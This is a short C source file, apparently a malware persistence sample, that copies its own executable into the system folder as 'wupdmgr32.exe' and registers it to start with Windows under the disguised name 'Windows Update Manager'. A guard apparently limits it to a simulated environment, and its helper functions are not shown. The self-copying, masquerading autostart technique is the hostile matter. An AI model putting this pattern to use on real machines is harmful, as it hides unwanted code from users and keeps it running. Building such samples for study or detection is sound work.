/* Copies itself into the system folder and registers the copy to start with Windows. */
#include "persist.h"
#include "simulated.h"

int main(void)
{
	char path[MAX_PATH];
	leave_unless_simulated();
	if (!copy_self("wupdmgr32.exe", path))
		return 1;
	return start_with_windows("Windows Update Manager", path) ? 0 : 1;
}
